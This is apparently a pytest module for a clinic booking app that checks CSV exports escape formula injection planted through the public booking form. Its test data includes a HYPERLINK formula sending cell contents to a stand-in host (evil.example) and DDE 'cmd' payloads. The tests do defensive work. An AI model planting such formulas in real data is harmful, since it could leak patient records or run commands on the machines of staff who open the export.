"""CSV exports are safe to open in a spreadsheet: text that would run as a formula (planted
through the public booking form) is escaped in every CSV, and left as typed in JSON."""

import csv
import io
import json
import re
import zipfile
from pathlib import Path

import pytest

from clinic.booking.models import Appointment
from clinic.csv_cells import safe_cell, writer
from tests.booking.conftest import build_booking

pytestmark = pytest.mark.django_db

NAME = '=HYPERLINK("http://evil.example/?leak="&C2&D2,"Open") Smith'
HURTS = "=cmd|' /C calc'!A0"
RACE = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1+cmd", "'+1+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-3", "-3"),  # a plain number is read as that number
        ("+1.5", "+1.5"),
        ("Ann = Lee", "Ann = Lee"),
        ("", ""),
        (None, None),
        (-3, -3),
    ],
)
def test_safe_cell_escapes_only_what_would_start_a_formula(value, cell):
    assert safe_cell(value) == cell


def test_the_writer_escapes_every_cell_of_every_row():
    text = io.StringIO()
    writer(text).writerows([["=a", "b"], ["c", "@d"]])
    assert list(csv.reader(io.StringIO(text.getvalue()))) == [["'=a", "b"], ["c", "'@d"]]


def test_every_csv_of_the_project_goes_through_the_shared_writer():
    root = Path(__file__).resolve().parents[2]
    direct = re.compile(r"\bcsv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(root))
        for folder in ("clinic", "assessments", "programs")
        for path in (root / folder).rglob("*.py")
        if path.name != "csv_cells.py" and direct.search(path.read_text())
    ]
    assert offenders == []


@pytest.fixture
def planted(api, world):
    """A booking through the public API whose name and intake start like formulas."""
    booking = build_booking(world)
    response = api.post(
        "/api/v1/public/bookings/?clinic=home",
        {
            "type": "running-performance-consult",
            "start": booking.at(9).isoformat(),
            "clinician": world.home.clinician.pk,
            "name": NAME,
            "email": "formula@example.com",
            "what_hurts": HURTS,
            "goal_race": RACE,
        },
        format="json",
    )
    assert response.status_code == 201, response.content
    return Appointment.objects.select_related("patient").get(pk=response.json()["id"])


def _zip(response) -> dict[str, list[dict]]:
    assert response.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    return {
        name.removesuffix(".csv"): list(csv.DictReader(io.StringIO(archive.read(name).decode())))
        for name in archive.namelist()
    }


def _no_formula_cells(rows: list[dict]) -> None:
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            assert not value.startswith("-") or re.fullmatch(r"-\d+(\.\d+)?", value), value


def test_the_patient_csv_export_escapes_planted_formulas(client, world, planted):
    client.force_login(world.home.clinician)
    files = _zip(client.get(f"/patients/{planted.patient_id}/export/csv/"))
    patient = files["patient"][0]
    assert patient["first_name"].startswith("'=HYPERLINK(")
    appointment = files["appointments"][0]
    assert appointment["intake_what_hurts"] == "'" + HURTS
    assert appointment["intake_goal_race"] == "'" + RACE
    for rows in files.values():
        _no_formula_cells(rows)


def test_the_patient_json_export_keeps_the_values_as_typed(client, world, planted):
    client.force_login(world.home.clinician)
    response = client.get(f"/patients/{planted.patient_id}/export/json/")
    data = json.loads(response.content)
    assert data["patient"][0]["first_name"].startswith("=HYPERLINK(")
    assert data["appointments"][0]["intake_what_hurts"] == HURTS


def test_the_audit_csv_escapes_a_planted_patient_name(client, world, planted):
    client.force_login(world.home.admin)
    client.get(f"/patients/{planted.patient_id}/export/json/")  # one row naming the patient
    response = client.get("/audit/export/", {"patient": planted.patient_id})
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows
    assert {row["patient"][:12] for row in rows} == {"'=HYPERLINK("}
    _no_formula_cells(rows)
